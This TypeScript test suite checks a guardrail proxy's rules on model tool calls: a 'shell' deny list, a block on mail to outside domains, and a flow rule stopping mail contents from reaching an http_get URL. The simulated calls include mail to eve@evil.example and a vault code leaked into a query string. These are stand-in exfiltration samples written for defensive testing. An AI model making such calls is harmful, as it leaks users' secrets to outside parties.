import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { checkJsonSchema } from '../../src/adapters/json-schema/check.ts';
import { parseExactly } from '../../src/core/exact-numbers.ts';
import { isJsonObject, type JsonObject, type JsonValue } from '../../src/core/json.ts';
import { createDefaultPipeline } from '../../src/domain/guardrails/default-pipeline.ts';
import { DEFAULT_POLICY } from '../../src/domain/guardrails/policy/policy.ts';
import { policyToBody, readPolicy } from '../../src/guard/policies/policy-schema.ts';
import { createCountingIds, createManualClock } from '../fixtures/manual-system.ts';
import { numbersOf } from '../fixtures/numbers-of-a-seed.ts';
import {
  ask,
  at,
  bodyOf,
  chunk,
  eventsOf,
  guardService,
  reply,
  textAt,
  textOf,
  type GuardChanges,
  type UpstreamScript,
} from './guard-service.ts';

const detectors = DEFAULT_POLICY.checks.map(({ detector }) => detector);
const { checks, mode: _, ...shipped } = policyToBody(DEFAULT_POLICY);

/** The default checks, e-mail addresses redacted, with rules about tools. */
function withRules(rules: readonly JsonObject[], more: JsonObject = {}, mode = 'enforce'): GuardChanges {
  const redacting = checks.map((check) =>
    check.detector !== 'email_address'
      ? check
      : { ...check, rules: check.rules.map((rule) => ({ ...rule, steps: [{ threshold: 0.5, action: 'redact' }] })) },
  );
  const body = { ...shipped, checks: redacting, mode, tools: { rules, ...more } };
  const policy = readPolicy(body, { id: 'tools', version: 1, detectors });
  assert.deepEqual(readPolicy(policyToBody(policy), { id: 'tools', version: 1, detectors }), policy);
  const pipeline = createDefaultPipeline({ clock: createManualClock(), ids: createCountingIds(), policy, matchesSchema: checkJsonSchema });
  return { deps: { pipeline } };
}

const RULES: readonly JsonObject[] = [
  { name: 'no-shell', kind: 'deny_list', tools: ['shell'], action: 'block' },
  { name: 'own-domain', kind: 'argument', tools: ['send_mail'], argument: '/to', matches: String.raw`@corp\.example$`, action: 'block' },
  { name: 'watched', kind: 'argument', tools: ['search'], excludes: 'salary', action: 'flag' },
];

const call = (name: string, args: JsonValue, index = 0): JsonObject => ({
  index,
  id: `call-${index}`,
  type: 'function',
  function: { name, arguments: JSON.stringify(args) },
});
const choiceOf = (piece: JsonObject): JsonObject => {
  const choice = at(piece, 'choices', 0);
  return isJsonObject(choice) ? choice : {};
};
const calling = (...calls: JsonObject[]): JsonObject =>
  reply('', { choices: [{ index: 0, message: { role: 'assistant', content: null, tool_calls: calls }, finish_reason: 'tool_calls' }] });

/** A call in pieces as upstreams stream it: head first, then its arguments cut at the places given. */
function pieces({ index, id, type, ...made }: JsonObject, cuts: readonly number[]): JsonObject[] {
  const written = textAt(made['function'], 'arguments');
  const ends = [...cuts.filter((cut) => cut < written.length).toSorted((a, b) => a - b), written.length];
  const texts = ends.map((end, place) => written.slice(ends[place - 1] ?? 0, end));
  return [
    chunk({
      tool_calls: [
        { index: index ?? 0, id: id ?? '', type: type ?? '', function: { name: at(made['function'], 'name') ?? '', arguments: '' } },
      ],
    }),
    ...texts.map((text) => chunk({ tool_calls: [{ index: index ?? 0, function: { arguments: text } }] })),
  ];
}

const said = (value: JsonValue | undefined): string => (typeof value === 'string' ? value : '');

/** The calls that a client puts together from a stream. */
function callsOf(events: readonly JsonValue[]): { name: string; arguments: string }[] {
  const calls: { name: string; arguments: string }[] = [];
  for (const event of events) {
    const made = at(event, 'choices', 0, 'delta', 'tool_calls');
    for (const piece of Array.isArray(made) ? made : []) {
      const own = (calls[Number(at(piece, 'index') ?? 0)] ??= { name: '', arguments: '' });
      own.name += said(at(piece, 'function', 'name'));
      own.arguments += said(at(piece, 'function', 'arguments'));
    }
  }
  return calls;
}

const finishOf = (events: readonly JsonValue[]): JsonValue | undefined =>
  events.map((event) => at(event, 'choices', 0, 'finish_reason')).findLast((reason) => typeof reason === 'string');

async function streamed(script: UpstreamScript, changes: GuardChanges, request: JsonObject = ask('Hi')) {
  const service = guardService(script, changes);
  const events = await eventsOf(await service.chat({ ...request, stream: true }, { 'x-request-id': 'r' }));
  const decisions = await service.journal.decisions('r');
  return { events, decisions, findings: decisions?.flatMap(({ findings }) => findings) ?? [], record: await service.journal.request('r') };
}

describe('rules about tool calls, in complete replies', () => {
  it('end a blocked call with content_filter and name tool, rule and argument', async () => {
    const service = guardService({ reply: calling(call('send_mail', { to: 'eve@evil.example' })) }, withRules(RULES));
    const response = await service.chat(ask('Mail it'), { 'x-request-id': 'r' });
    const body = await bodyOf(response);
    assert.equal(at(body, 'choices', 0, 'finish_reason'), 'content_filter');
    assert.equal(at(body, 'choices', 0, 'message', 'tool_calls'), undefined);
    const shown = await bodyOf(await service.get('/requests/r/decision'));
    const findings = at(shown, 'decisions', 1, 'findings');
    const own = Array.isArray(findings) ? findings.filter((finding) => at(finding, 'detector') === 'tool_rules') : [];
    assert.deepEqual(
      own.map((finding) => [
        at(finding, 'category'),
        at(finding, 'tool'),
        at(finding, 'pointer'),
        at(finding, 'part'),
        at(finding, 'action'),
      ]),
      [['own-domain', 'send_mail', '/to', 'choices[0].message.tool_calls[0].function.arguments', 'block']],
    );
    assert.ok(!JSON.stringify(shown).includes('evil.example'));
  });

  it('name no tool in the record that says more than names do: a model may call anything', async () => {
    const known: JsonObject = { name: 'known', kind: 'allow_list', tools: ['send_mail'], action: 'block' };
    const names = ['shell.run-2', 'pay 4111 1111 1111 1111', 'to_4111111111111111', 'ann@corp.example', 'sk-proj-aB3dE6gH9jK2mN5pQ8sT1vW4'];
    const service = guardService({ reply: calling(...names.map((name, index) => call(name, {}, index))) }, withRules([known]));
    await service.chat(ask('Go on'), { 'x-request-id': 'r' });
    const findings = at(await bodyOf(await service.get('/requests/r/decision')), 'decisions', 1, 'findings');
    const tools = Array.isArray(findings) ? findings.flatMap((finding) => at(finding, 'tool') ?? []) : [];
    assert.deepEqual(tools, ['shell.run-2', '*', '*', '*', '*']);
  });

  for (const [what, calls] of [
    ['that comes for itself instead of in a list', call('shell', {})],
    ['of a kind that nobody knows', [{ id: 'c', type: 'mcp', mcp: { name: 'shell', arguments: '{}' } }]],
    ['with its name beside its arguments', [{ id: 'c', name: 'shell', arguments: '{}' }]],
  ] as const) {
    it(`are about a call ${what}`, async () => {
      const message: JsonObject = { role: 'assistant', content: null, tool_calls: calls as unknown as JsonValue };
      const whole = reply('', { choices: [{ index: 0, message, finish_reason: 'tool_calls' }] });
      const service = guardService({ reply: whole, chunks: [chunk(message), chunk({}, 'tool_calls')] }, withRules(RULES));
      assert.equal(at(await bodyOf(await service.chat(ask('Go on'))), 'choices', 0, 'finish_reason'), 'content_filter');
      assert.doesNotMatch(await (await service.chat(ask('Go on', { stream: true }))).text(), /shell/);
    });
  }

  it('let other calls through as they are', async () => {
    const upstream = calling(call('send_mail', { to: '[EMAIL_ADDRESS]@corp.example' }), call('other', { any: 1 }, 1));
    const service = guardService({ reply: upstream }, withRules(RULES));
    assert.deepEqual(await bodyOf(await service.chat(ask('Mail it to ann@corp.example'))), upstream);
  });

  it('are held against what a redaction stands for, and see the calls of every choice', async () => {
    const masked = calling(call('send_mail', { to: '[EMAIL_ADDRESS_1]' }));
    const verdict = async (mail: string): Promise<JsonValue | undefined> =>
      at(
        await bodyOf(await guardService({ reply: masked }, withRules(RULES)).chat(ask(`Write to ${mail}`))),
        'choices',
        0,
        'finish_reason',
      );
    assert.equal(await verdict('ann@corp.example'), 'tool_calls');
    assert.equal(await verdict('eve@evil.example'), 'content_filter');
    const second = { index: 1, message: { role: 'assistant', tool_calls: [call('shell', {})] }, finish_reason: 'tool_calls' };
    const upstream = reply('', { choices: [{ index: 0, message: { role: 'assistant', content: 'a' }, finish_reason: 'stop' }, second] });
    const both = await bodyOf(await guardService({ reply: upstream }, withRules(RULES)).chat(ask('x')));
    assert.equal(at(both, 'choices', 0, 'finish_reason'), 'content_filter');
  });

  it('block or let pass what they cannot read, as the policy says', async () => {
    const broken = calling({ id: 'c', type: 'function', function: { name: 'send_mail', arguments: '{"to": ' } });
    const finish = async (fail: string): Promise<JsonValue | undefined> =>
      at(await bodyOf(await guardService({ reply: broken }, withRules(RULES, { fail })).chat(ask('x'))), 'choices', 0, 'finish_reason');
    assert.equal(await finish('closed'), 'content_filter');
    assert.equal(await finish('open'), 'tool_calls');
  });

  it('leave no part of the record without a word', async () => {
    const service = guardService({ reply: calling(call('search', { q: 'salary of Ann' })) }, withRules(RULES));
    await service.chat(ask('x'), { 'x-request-id': 'r' });
    const decisions = (await service.journal.decisions('r')) ?? [];
    for (const { checks: records } of decisions) {
      const parts = new Set(records.map(({ part }) => part));
      const own = records.filter(({ detector }) => detector === 'tool_rules').map(({ part }) => part);
      assert.deepEqual(own.toSorted(), [...parts].toSorted());
    }
    assert.deepEqual(
      decisions.flatMap(({ findings }) => findings).map(({ category, action }) => [category, action]),
      [['watched', 'flag']],
    );
  });
});

describe('rules about tool calls, in requests', () => {
  it('check the calls of earlier turns', async () => {
    const service = guardService({}, withRules(RULES));
    const history = [
      { role: 'user', content: 'x' },
      { role: 'assistant', content: null, tool_calls: [call('shell', { command: 'ls' })] },
      { role: 'tool', tool_call_id: 'call-0', content: 'ok' },
    ];
    const body = await bodyOf(await service.chat({ model: 'm', messages: history }));
    assert.equal(at(body, 'choices', 0, 'finish_reason'), 'content_filter');
    assert.equal(service.asked.length, 0);
  });

  it('check only the reply where a rule says so', async () => {
    const rules = [{ ...RULES[0], directions: ['output'] }];
    const messages = [
      { role: 'user', content: 'x' },
      { role: 'assistant', content: null, tool_calls: [call('shell', {})] },
      { role: 'tool', tool_call_id: 'call-0', content: 'ok' },
    ];
    const service = guardService({}, withRules(rules));
    assert.equal(at(await bodyOf(await service.chat({ model: 'm', messages })), 'choices', 0, 'finish_reason'), 'stop');
  });
});

describe('rules about tool calls, in streams', () => {
  it('let everything pass as it came when no rule is about it', async () => {
    const chunks = [chunk({ role: 'assistant', content: 'ok' }), ...pieces(call('other', { a: 1 }), [3]), chunk({}, 'tool_calls')];
    const { events } = await streamed({ chunks }, withRules(RULES));
    assert.equal(textOf(events), 'ok');
    assert.deepEqual(callsOf(events), [{ name: 'other', arguments: '{"a":1}' }]);
    // Held back in case it becomes an address, and so is the call that follows it.
    assert.equal(at(events[1], 'choices', 0, 'delta', 'content'), 'ok');
    assert.equal(at(events[2], 'choices', 0, 'delta', 'tool_calls', 0, 'function', 'name'), 'other');
  });

  it('hold nothing of a call that they only watch', async () => {
    const chunks = [...pieces(call('search', { q: 'salary' }), [4]), chunk({}, 'tool_calls')];
    const rules = [RULES[2] ?? {}];
    const { events, findings } = await streamed({ chunks }, withRules(rules, { fail: 'open' }));
    assert.ok(events.length >= chunks.length);
    assert.deepEqual(
      findings.map(({ category }) => category),
      ['watched'],
    );
  });

  it('let nothing of a blocked call out, wherever the stream is cut, and text before it at once', async () => {
    const random = numbersOf(11);
    const args = { subject: 'Report', to: 'eve@evil.example', body: 'All the figures you asked for' };
    const changes = withRules(RULES);
    for (let round = 0; round < 150; round += 1) {
      const cuts = Array.from({ length: random(12) }, () => random(80));
      const isAllowed = round % 3 === 0;
      const made = call('send_mail', { ...args, to: isAllowed ? 'ann@corp.example' : args.to });
      const chunks = [
        chunk({ role: 'assistant', content: 'Sending. ' }),
        ...pieces(call('other', { b: 2 }), [2]),
        ...pieces({ ...made, index: 1, id: 'call-1' }, cuts),
        ...(round % 2 === 0 ? pieces(call('third', { c: 3 }, 2), [1]) : []),
        ...(round % 5 === 0 ? [] : [chunk({}, 'tool_calls')]),
      ];
      const { events, record } = await streamed({ chunks }, changes);
      assert.equal(textOf(events), 'Sending. ');
      const calls = callsOf(events);
      assert.deepEqual(calls[0], { name: 'other', arguments: '{"b":2}' });
      assert.equal(events.at(-1), '[DONE]');
      if (isAllowed) {
        assert.equal(calls[1]?.name, 'send_mail');
        assert.equal(isJsonObject(JSON.parse(calls[1]?.arguments ?? '')), true);
        assert.deepEqual(calls[2], round % 2 === 0 ? { name: 'third', arguments: '{"c":3}' } : undefined);
        assert.equal(record?.status, 'completed');
      } else {
        assert.equal(calls.length, 1, JSON.stringify(calls));
        assert.equal(finishOf(events), 'content_filter');
        assert.ok(!JSON.stringify(events).includes('send_mail') && !JSON.stringify(events).includes('evil'));
        assert.equal(record?.status, 'blocked');
      }
    }
  });

  it('read a name that comes in pieces, a call in one piece, free text and the older form of a call', async () => {
    const inPieces = [
      chunk({ tool_calls: [{ index: 0, id: 'c', type: 'function', function: { name: 'sh' } }] }),
      chunk({ tool_calls: [{ index: 0, function: { name: 'ell' } }] }),
      chunk({ tool_calls: [{ index: 0, function: { arguments: '{}' } }] }),
    ];
    const custom = [chunk({ tool_calls: [{ index: 0, id: 'c', type: 'custom', custom: { name: 'shell', input: 'ls' } }] }, 'tool_calls')];
    const legacy = [
      chunk({ function_call: { name: 'shell', arguments: '' } }),
      chunk({ function_call: { arguments: '{}' } }),
      chunk({}, 'function_call'),
    ];
    const whole = [chunk({ role: 'assistant', tool_calls: [call('shell', {}), call('other', {}, 1)] }), chunk({}, 'tool_calls')];
    for (const chunks of [inPieces, custom, legacy, whole]) {
      const { events } = await streamed({ chunks }, withRules(RULES));
      assert.equal(finishOf(events), 'content_filter', JSON.stringify(chunks));
      assert.ok(!/shell|"sh"|"ell"|"ls"/.test(JSON.stringify(events)), JSON.stringify(events));
    }
  });

  it('read arguments that come as a value instead of a text', async () => {
    const made = (args: JsonValue): JsonObject => ({ name: 'send_mail', arguments: args });
    const asCall = (args: JsonValue): JsonObject => ({ tool_calls: [{ index: 0, id: 'c', type: 'function', function: made(args) }] });
    for (const form of [asCall, (args: JsonValue): JsonObject => ({ function_call: made(args) })]) {
      const blocked = await streamed({ chunks: [chunk(form({ to: 'eve@evil.example' })), chunk({}, 'tool_calls')] }, withRules(RULES));
      assert.equal(finishOf(blocked.events), 'content_filter');
      assert.ok(!JSON.stringify(blocked.events).includes('evil'), JSON.stringify(blocked.events));
      const allowed = await streamed({ chunks: [chunk(form({ to: 'ann@corp.example' })), chunk({}, 'tool_calls')] }, withRules(RULES));
      assert.equal(finishOf(allowed.events), 'tool_calls');
      assert.ok(JSON.stringify(allowed.events).includes('"arguments":{"to":'), JSON.stringify(allowed.events));
    }
    const twice = [chunk(asCall({ to: 'ann@corp.example' })), chunk(asCall({ to: 'eve@evil.example' })), chunk({}, 'tool_calls')];
    const { events, record } = await streamed({ chunks: twice }, withRules(RULES));
    assert.ok(!JSON.stringify(events).includes('evil'), JSON.stringify(events));
    assert.equal(record?.error?.type, 'provider_unavailable');
  });

  it('join what a client joins: a piece with another id at the index of a call is part of it, unless that is complete', async () => {
    const piece = (id: string, made: JsonObject): JsonObject => chunk({ tool_calls: [{ index: 0, id, type: 'function', function: made }] });
    const ann = '{"to":"ann@corp.example"}';
    const eve = '{"to":"eve@evil.example"}';
    const split: readonly (readonly [string, ...JsonObject[]])[] = [
      ['blocked', piece('a', { name: 'send_mail', arguments: '' }), piece('b', { arguments: eve })],
      ['blocked', piece('a', { name: 'send_mail', arguments: eve.slice(0, 9) }), piece('b', { arguments: eve.slice(9) })],
      ['blocked', piece('a', { name: 'other', arguments: '{}' }), piece('b', { name: 'send_mail', arguments: eve })],
      ['failed', piece('a', { name: 'send_mail', arguments: '' }), piece('b', { name: 'other', arguments: eve })],
      ['failed', piece('a', { name: 'other', arguments: eve.slice(0, 9) }), piece('b', { name: 'send_mail', arguments: eve.slice(9) })],
      [
        'failed',
        piece('a', { name: 'other', arguments: '{}' }),
        piece('b', { name: 'third', arguments: '{}' }),
        piece('a', { arguments: eve }),
      ],
    ];
    for (const [status, ...chunks] of split) {
      const { events, record } = await streamed({ chunks: [...chunks, chunk({}, 'tool_calls')] }, withRules(RULES));
      assert.equal(record?.status, status, JSON.stringify(chunks));
      assert.ok(!JSON.stringify(events).includes('evil'), JSON.stringify(events));
    }
    const fine = [
      piece('a', { name: 'send_mail', arguments: ann }),
      piece('b', { name: 'other', arguments: '{}' }),
      chunk({}, 'tool_calls'),
    ];
    const { events } = await streamed({ chunks: fine }, withRules(RULES));
    assert.equal(finishOf(events), 'tool_calls');
    assert.match(JSON.stringify(events), /send_mail.*other/);
  });

  it('give a name that came in pieces and was let go whole', async () => {
    const chunks = [
      chunk({ tool_calls: [{ index: 0, id: 'c', type: 'function', function: { name: 'send_' } }] }),
      chunk({ tool_calls: [{ index: 0, function: { name: 'mail' } }] }),
      chunk({ tool_calls: [{ index: 0, function: { arguments: '{"to":"ann@corp.example"}' } }] }),
      chunk({}, 'tool_calls'),
    ];
    const { events } = await streamed({ chunks }, withRules(RULES));
    assert.equal(callsOf(events)[0]?.name, 'send_mail');
  });

  it('give a number beyond 2^53 that every piece of a held call says as it was written', async () => {
    const largest = '9223372036854775807';
    const piece = (made: string): JsonObject => {
      const delta = parseExactly(`{"tool_calls":[{"index":0,"id":"a","type":"function","trace":${largest},"function":${made}}]}`);
      return chunk(isJsonObject(delta) ? delta : {});
    };
    const chunks = [
      piece('{"name":"send_mail","arguments":"{"}'),
      piece(String.raw`{"arguments":"\"to\":\"a@corp.example\"}"}`),
      chunk({}, 'tool_calls'),
    ];
    const service = guardService({ chunks }, withRules(RULES));
    const told = await (await service.chat(ask('Hi', { stream: true }))).text();
    assert.ok(told.includes(`"trace":${largest}`) && told.includes('to'), told);
  });

  it('hold a call to its true end, whatever empty reasons to finish its pieces give', async () => {
    const sent = pieces(call('send_mail', { to: 'eve@evil.example' }), [4, 12, 20]);
    const chunks = [...sent.map((piece) => ({ ...piece, choices: [{ ...choiceOf(piece), finish_reason: '' }] })), chunk({}, 'tool_calls')];
    const { events } = await streamed({ chunks }, withRules(RULES));
    assert.equal(finishOf(events), 'content_filter');
    assert.ok(!JSON.stringify(events).includes('evil'), JSON.stringify(events));
  });

  it('read calls that are written between each other', async () => {
    const one = pieces(call('send_mail', { to: 'eve@evil.example' }), [4, 12, 20]);
    const two = pieces(call('other', { b: 2 }, 1), [2, 4, 5]);
    const chunks = [...one.flatMap((piece, index) => [piece, ...two.slice(index, index + 1)]), chunk({}, 'tool_calls')];
    const { events } = await streamed({ chunks }, withRules(RULES));
    assert.equal(finishOf(events), 'content_filter');
    assert.deepEqual(callsOf(events), []);
  });

  it('hold arguments against what a redaction stands for, and give that to the client', async () => {
    const chunks = [...pieces(call('send_mail', { to: '[EMAIL_ADDRESS_1]' }), [5, 9, 14]), chunk({}, 'tool_calls')];
    const allowed = await streamed({ chunks }, withRules(RULES), ask('Write to ann@corp.example'));
    assert.equal(finishOf(allowed.events), 'tool_calls');
    const blocked = await streamed({ chunks }, withRules(RULES), ask('Write to eve@evil.example'));
    assert.equal(finishOf(blocked.events), 'content_filter');
  });

  it('follow what a tool returned into the arguments of another', async () => {
    const flow = { name: 'leak', kind: 'flow', from: ['read_mail'], tools: ['http_get'], action: 'block' };
    const messages = [
      { role: 'user', content: 'Summarise my mail' },
      { role: 'assistant', content: null, tool_calls: [call('read_mail', {})] },
      { role: 'tool', tool_call_id: 'call-0', content: 'The access code for the vault is 7741-9923.' },
    ];
    const get = (url: string): JsonObject[] => [...pieces(call('http_get', { url }), [10, 20]), chunk({}, 'tool_calls')];
    const code = await streamed({ chunks: get('https://x.example/?q=7741-9923') }, withRules([flow]), { model: 'm', messages });
    assert.equal(finishOf(code.events), 'content_filter');
    const other = await streamed({ chunks: get('https://x.example/?q=weather') }, withRules([flow]), { model: 'm', messages });
    assert.equal(finishOf(other.events), 'tool_calls');
    const words = await streamed({ chunks: get('https://x.example/?q=The%20access%20code%20for%20the%20vault') }, withRules([flow]), {
      model: 'm',
      messages,
    });
    assert.equal(finishOf(words.events), 'content_filter');
    assert.deepEqual(
      words.findings.filter(({ detector }) => detector === 'tool_rules').map(({ category, tool, pointer }) => [category, tool, pointer]),
      [['leak', 'http_get', '/url']],
    );
  });

  it('in shadow mode change nothing and record the same', async () => {
    const chunks = [...pieces(call('send_mail', { to: 'eve@evil.example' }), [3, 8]), chunk({}, 'tool_calls')];
    const { events, findings, decisions } = await streamed({ chunks }, withRules(RULES, {}, 'shadow'));
    assert.equal(callsOf(events)[0]?.arguments, '{"to":"eve@evil.example"}');
    assert.equal(decisions?.at(-1)?.verdict, 'block');
    assert.ok(findings.some(({ category }) => category === 'own-domain'));
  });
});

describe('a policy with rules about tools', () => {
  const read = (tools: unknown): unknown => readPolicy({ checks, tools }, { id: 'p', version: 1, detectors });
  const [deny = {}, argument = {}] = RULES;
  for (const [what, tools, param] of [
    ['an unknown kind', { rules: [{ ...deny, kind: 'magic' }] }, 'tools.rules[0].kind'],
    ['an unknown action', { rules: [{ ...deny, action: 'redact' }] }, 'tools.rules[0].action'],
    ['a pattern that is none', { rules: [{ ...argument, matches: '(' }] }, 'tools.rules[0].matches'],
    ['a back reference', { rules: [{ ...argument, matches: String.raw`(a)\1` }] }, 'tools.rules[0].matches'],
    ['no condition', { rules: [{ name: 'x', kind: 'argument', tools: ['*'], action: 'flag' }] }, 'tools.rules[0].matches'],
    ['two rules of one name', { rules: [deny, deny] }, 'tools.rules[1].name'],
    ['an unknown field', { rules: [{ ...deny, speed: 1 }] }, 'tools.rules[0].speed'],
    ['no rules', {}, 'tools.rules'],
  ] as const) {
    it(`is refused with ${what}, which names ${param}`, () => {
      assert.throws(() => read(tools), { kind: 'invalid_input', param });
    });
  }
});

describe('a streamed call that is of two kinds', () => {
  const two = { function: { name: 'shell', arguments: '{}' }, custom: { name: 'harmless', input: 'x' } };
  const ways: readonly (readonly [string, JsonObject[]])[] = [
    ['at once', [{ index: 0, id: 'c', ...two }]],
    [
      'one after the other',
      [
        { index: 0, id: 'c', custom: two.custom },
        { index: 0, function: two.function },
      ],
    ],
  ];
  for (const [how, calls] of ways) {
    it(`${how} ends the reply: a client may take the one that no rule was held against`, async () => {
      const chunks = [...calls.map((made) => chunk({ tool_calls: [made] })), chunk({}, 'tool_calls')];
      const { events, record } = await streamed({ chunks }, withRules(RULES));
      assert.doesNotMatch(JSON.stringify(events), /shell/);
      assert.equal(record?.error?.type, 'provider_unavailable');
    });
  }
});
